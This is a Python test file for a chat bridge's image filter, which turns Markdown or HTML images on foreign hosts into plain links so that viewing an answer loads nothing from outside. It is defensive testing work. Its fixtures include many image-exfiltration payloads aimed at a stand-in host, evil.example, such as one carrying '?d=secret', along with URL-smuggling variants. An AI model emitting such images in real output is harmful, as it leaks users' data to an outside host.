"""No image of a foreign host is loaded when somebody looks at an answer."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from bridge.text.images import linked_images

HOSTS = frozenset({"chat.example", "files.example:8443"})

_markdown = MarkdownIt("commonmark", {"html": False}).enable("table")

_pieces = st.sampled_from(
    [
        *(
            "![",
            "!",
            "[",
            "]",
            "](",
            "(",
            ")",
            "a",
            "![r]",
            "[r]",
            "\n[r]: https://evil.example/q.png\n",
            "<",
            ">",
        ),
        *(
            "![a](https://evil.example/p.png)",
            "![a](https://chat.example/p.png)",
            "https://evil.example/",
            "|",
        ),
        *(
            "\n\n",
            "\n",
            "```\n",
            "\n```\n",
            "~~~\n",
            "    ",
            "- ",
            "> ",
            "`",
            "``",
            "\\",
            "&#33;",
            "&#91;",
            "*",
        ),
        *(
            '<img src="https://evil.example/i.png">',
            "|-|-|\n",
            "# ",
            " =10x10",
            ' "t"',
            "<!--\n",
            "<div>\n",
            "_",
        ),
    ]
)


def _images(markdown: str) -> list[str]:
    """The addresses of the images that CommonMark finds."""
    inline = (token.children or [] for token in _markdown.parse(markdown))
    return [str(child.attrs["src"]) for children in inline for child in children if child.type == "image"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![chart](https://evil.example/p.png?d=secret)", "[chart](https://evil.example/p.png?d=secret)"),
        ("![ ](https://evil.example/p.png)", "[image](https://evil.example/p.png)"),
        ("![](https://evil.example/p.png)", "[image](https://evil.example/p.png)"),
        ("![a][r]\n\n[r]: https://evil.example/p.png", "[a][r]\n\n[r]: https://evil.example/p.png"),
        ("![r]\n\n[r]: https://evil.example/p.png", "!\u200b[r]\n\n[r]: https://evil.example/p.png"),
        ("!!![a](https://evil.example/p.png)", "[a](https://evil.example/p.png)"),
        (
            "[![a](https://evil.example/p.png)](https://x.example)",
            "[[a](https://evil.example/p.png)](https://x.example)",
        ),
        ("![a](https&#58;//evil.example/p.png)", "[a](https&#58;//evil.example/p.png)"),
        ("![a](https://chat.example@evil.example/p)", "[a](https://chat.example@evil.example/p)"),
        ("![a](https://chat.example.evil.example/p)", "[a](https://chat.example.evil.example/p)"),
        ("![a](https://chat.example:99/p)", "[a](https://chat.example:99/p)"),
        ("![a](//evil.example/p)", "[a](//evil.example/p)"),
        ("![a](data:image/png;base64,x)", "[a](data:image/png;base64,x)"),
        ("![a\nb](https://evil.example/p)", "!\u200b[a\nb](https://evil.example/p)"),
        ('<img src="https://evil.example/p.png" alt="x">', "https://evil.example/p.png"),
        ("<IMG SRC=https://evil.example/p.png>", "https://evil.example/p.png"),
        ('!<img src="[a](https://evil.example)">', "!\u200b[a](https://evil.example)"),
        ("`![a](https://evil.example/p)`", "`[a](https://evil.example/p)`"),
        ("~~~\n![a](https://evil.example/p)", "~~~\n[a](https://evil.example/p)"),
        (
            "1. a\n```\nb\n\n![a](https://evil.example/p)\n```",
            "1. a\n```\nb\n\n[a](https://evil.example/p)\n```",
        ),
        (
            "<!--\n```\n-->\n![a](https://evil.example/p)\n```",
            "<!--\n```\n-->\n[a](https://evil.example/p)\n```",
        ),
    ],
)
def test_an_image_becomes_a_link(text: str, shown: str) -> None:
    """Also where only one of Mattermost's readers takes it for an image."""
    assert linked_images(text, HOSTS) == shown


@pytest.mark.parametrize(
    "text",
    [
        "![chart](https://chat.example/files/p.png)",
        "![chart](https://CHAT.example/p.png =100x20)",
        '![chart](https://files.example:8443/p.png "Chart")',
        "a ![b](https://chat.example/1) ![c](http://chat.example/2)",
        "```\n![a](https://evil.example/p.png)\n```",
        "Look:\n~~~md\n![a](https://evil.example/p.png)\n~~~\nDone.",
        "Wow! [a](https://x.example)",
        "a < b",
    ],
)
def test_own_images_code_and_other_text_stay(text: str) -> None:
    """Images of the chat's host and of the hosts that the operator names."""
    assert linked_images(text, HOSTS) == text


@settings(deadline=None, max_examples=500)
@given(st.lists(_pieces, max_size=14).map("".join))
def test_no_foreign_image_is_left(text: str) -> None:
    """No combination gets through, and twice is the same as once."""
    shown = linked_images(text, HOSTS)

    assert all(url.startswith(("https://chat.example/", "http://chat.example/")) for url in _images(shown))
    assert linked_images(shown, HOSTS) == shown
